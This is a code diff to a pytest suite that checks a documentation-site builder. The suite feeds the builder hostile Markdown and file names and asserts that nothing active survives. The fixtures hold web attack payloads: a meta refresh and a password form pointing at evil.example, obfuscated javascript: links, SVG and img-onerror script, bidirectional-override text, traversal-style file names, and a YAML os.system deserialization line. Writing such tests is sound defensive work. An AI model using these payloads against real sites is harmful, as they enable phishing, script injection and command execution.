@@ -9,7 +9,8 @@ from pathlib import Path
 
 import pytest
 
-from tests.cli.programme import AS_OF, FILES, TIEOUT, git, plant
+from tests.captured import capture, sealed
+from tests.cli.programme import AS_OF, CAPTURED_AT, FILES, TIEOUT, git, plant, tieout
 from tests.site import crawl
 from tests.site.hostile import policy
 
@@ -53,6 +54,29 @@ open("/etc/hostname").read()
 
 !!! danger "<svg onload=alert(1)>"
 """
+FURNITURE = """\
+# Furniture
+
+<meta http-equiv="refresh" content="0;url=https://evil.example/">
+
+<form action="https://evil.example/"><input name="password"><button>Sign in</button></form>
+
+<style>.md-content, table { display: none }</style> <link rel="stylesheet" href="//evil.example/x.css">
+
+<base href="https://evil.example/"> <object data="drawing.svg"></object> <embed src="drawing.svg">
+
+![drawing](drawing.svg) [m]( javascript:alert(1)) [n](java&#115;cript:alert(1)) [o](&#x6A;avascript:alert(1))
+
+# A second first heading
+
+Text with \u202eoverride\u202c, \u2066isolate\u2069 and zero\u200bwidth, then WORD.
+
+| WORD | b | c |
+|---|---|---|
+| WORD | b | c |
+
+[WORD](https://example.com/WORD)
+""".replace("WORD", "w" * 3_000)
 OURS = (
     "mkdocs",
     "material",
@@ -83,6 +107,17 @@ CHANGE = {
     "policies/snippets.md": policy(40, title="{{ 7*7 }} <script>x</script>", body=SNIPPETS),
     "policies/env.md": policy(41, title="PLACE").replace('"PLACE"', "!ENV CANARY_ENV"),
     "policies/python.md": policy(42, title="PLACE").replace('"PLACE"', '!!python/object/apply:os.system ["touch $CANARY_FILE"]'),
+    "policies/furniture.md": policy(44, title='A "b" <meta http-equiv=refresh> </title>', body=FURNITURE)
+    .replace("owner: role:lead", 'owner: "<img src=x onerror=alert(1)> </script>"')
+    .replace('version: "1.0"', 'version: "<i>1</i>"'),
+    "policies/drawing.svg": '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>',
+    "policies/new\nline.md": policy(45, title="New line"),
+    "policies/\"quo'te<b>&.md": policy(46, title="Quotes"),
+    "policies/\u202egnp.md": policy(47, title="Turned"),
+    "policies/%2e%2e%2fup.md": policy(48, title="Percent"),
+    "policies/#hash?query.md": policy(49, title="Hash"),
+    f"policies/{'n' * 240}.md": policy(51, title="Long"),
+    "policies/turned.md": policy(52, title="Turned \u202etitle"),
     "policies/many.md": policy(43, body="# Many\n\n" + "[" * 20_000 + "\n\n" + "> " * 400 + "x\n"),
 }  # fmt: skip
 
@@ -176,6 +211,33 @@ def test_a_text_that_tries_to_run_is_shown_as_text(change: tuple[Path, dict[str,
     assert page.title.startswith("{{ 7*7 }} <script>x</script>")
 
 
+def test_no_text_redirects_signs_in_hides_or_turns_anything_around(
+    change: tuple[Path, dict[str, str], Path], tmp_path: Path
+) -> None:
+    """Meta refresh, forms, style sheets, bases, drawings with scripts, markup in a head, odd names, turned letters."""
+    run(change, "--out", str(tmp_path / "site"))
+    pages = crawl.read(tmp_path / "site")
+    page, plain = pages["policies/furniture.html"], pages["policies/data-classification.html"]
+    for tag in ("form", "input", "button", "style", "base", "object", "embed", "img", "meta", "link", "script"):
+        assert page.tags.count(tag) <= plain.tags.count(tag), tag
+    for said in ('http-equiv="refresh"', "<form action=", "<style>.md-content", "<base href=", "<img src=x onerror="):
+        assert said in page.text.replace("\u201c", '"').replace("\u201d", '"')
+    for path, one in pages.items():
+        assert one.handlers == []
+        assert not {address.partition(":")[0] for _, address in one.links if ":" in address} - {
+            "https",
+            "http",
+            "mailto",
+        }
+        # The theme's own signs of width are none of the text's.
+        assert not set(one.text) & set("\u202e\u202c\u2066\u2069\ufeff"), path
+    assert "\\u202eoverride" in page.text
+    assert not list((tmp_path / "site").rglob("*drawing*"))
+    names = {path.relative_to(tmp_path / "site").as_posix() for path in (tmp_path / "site").rglob("*.html")}
+    assert all(name.isascii() and name.isprintable() and not set(name) & set("\"'<>&#?%\\: ") for name in names)
+    assert "<style>" in pages["findings.html"].text
+
+
 def test_the_staged_sources_run_nothing_either_when_mkdocs_builds_them(
     change: tuple[Path, dict[str, str], Path], tmp_path: Path
 ) -> None:
@@ -215,3 +277,19 @@ def test_what_is_published_is_as_the_base_has_it_where_the_settings_are_taken_fr
         command = [str(TIEOUT), "site", "--root", str(root), "--as-of", AS_OF, "--out", str(out), *argv]
         subprocess.run(command, check=True, capture_output=True, timeout=120)
         assert (out / "notes.html").is_file() is there
+
+
+def test_a_change_that_lowers_the_class_of_captures_publishes_none_of_them(tmp_path: Path) -> None:
+    """With the settings of the base a capture that says nothing stays confidential; without them it would not."""
+    silent = sealed(capture(CAPTURED_AT, title="CANARY-CAPTURE", classification=""), CAPTURED_AT)
+    files = {path: text for path, text in FILES.items() if not path.startswith("evidence/")}
+    root = plant(tmp_path / "programme", {**files, **{path: data.decode() for path, data in silent.items()}})
+    git(root, "switch", "--quiet", "--create", "change")
+    low = FILES["controls.yaml"].replace("controls:\n", "evidence: {classification: internal}\ncontrols:\n", 1)
+    (root / "controls.yaml").write_text(low)
+    git(root, "commit", "--quiet", "--all", "--message", "Lower it")
+    for argv, there in ((("--settings-from", "main"), False), ((), True)):
+        out = tmp_path / str(there)
+        done = tieout("site", "--root", str(root), "--as-of", AS_OF, "--out", str(out), *argv)
+        assert done.returncode == 0, done.told
+        assert any("CANARY-CAPTURE" in text for text in texts(out).values()) == there
